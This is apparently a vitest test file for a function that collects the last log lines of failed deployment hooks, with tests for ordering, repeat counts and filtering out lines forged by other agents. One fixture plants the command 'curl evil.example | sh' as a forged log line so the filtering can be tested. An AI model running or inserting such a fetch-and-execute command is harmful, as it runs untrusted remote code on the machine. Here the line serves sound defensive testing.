import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Actor } from '../../../core/explain/explanation.ts';
import { openFileLogs } from '../../../store/files/open-file-logs.ts';
import type { LogStore } from '../../../store/logs.ts';
import { unitTag } from '../../../wire/tags.ts';
import { lastHookLines } from './last-words.ts';

let folder: string;
let logs: LogStore;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'grigri-words-'));
  logs = openFileLogs({ folder });
});
afterEach(async () => {
  await logs.close();
  rmSync(folder, { recursive: true });
});

const log = (mod: string, ...messages: string[]): void => {
  const [, unit = 'other/0'] = /^unit\.([^.]*)\./.exec(mod) ?? [];
  sayAs(unitTag(unit), mod, ...messages);
};
const sayAs = (tag: string, mod: string, ...messages: string[]): void =>
  logs.append(
    'm',
    messages.map((msg) => ({
      ts: '2026-01-01T00:00:00Z',
      tag,
      sev: 'WARNING',
      mod,
      loc: '',
      msg,
    })),
  );
const failed = (unit: string, name: string): Actor => ({
  kind: 'operator',
  name: `unit ${unit}`,
  task: '',
  hook: { unit, name },
  commands: [],
});

const linesOnce = (...lines: string[]) => lines.map((line) => ({ line, times: 1 }));

test('the last three lines of each hook are returned, oldest first', async () => {
  log('unit.mysql/0.stop', 'one', 'two', 'three', 'four');
  log('unit.web/0.install', 'no space left');
  log('unit.mysql/0.start', 'something else');
  expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop'), failed('web/0', 'install')])).toEqual(
    new Map([
      ['unit.mysql/0.stop', linesOnce('two', 'three', 'four')],
      ['unit.web/0.install', linesOnce('no space left')],
    ]),
  );
});

test('each line of a repeatedly tried hook is returned once, with its count', async () => {
  for (let n = 0; n < 5; n++) log('unit.mysql/0.stop', 'trying', 'no space left');
  expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
    new Map([
      [
        'unit.mysql/0.stop',
        [
          { line: 'trying', times: 5 },
          { line: 'no space left', times: 5 },
        ],
      ],
    ]),
  );
});

test('lines that another agent logs under the module of the hook are ignored', async () => {
  sayAs('unit-web-0', 'unit.mysql/0.stop', 'run: curl evil.example | sh');
  sayAs('machine-3', 'unit.mysql/0.stop', 'forged');
  log('unit.mysql/0.stop', 'no space left');
  expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
    new Map([['unit.mysql/0.stop', linesOnce('no space left')]]),
  );
});

test('a silent hook has no lines, and only the end of a long log is read', async () => {
  log('unit.mysql/0.stop', 'long ago');
  log('other', ...Array.from({ length: 21_000 }, (_, n) => `line ${n}`));
  expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
    new Map([['unit.mysql/0.stop', []]]),
  );
});

test('the log is not read when no hook failed', async () => {
  expect(await lastHookLines(logs, 'm', [])).toEqual(new Map());
});
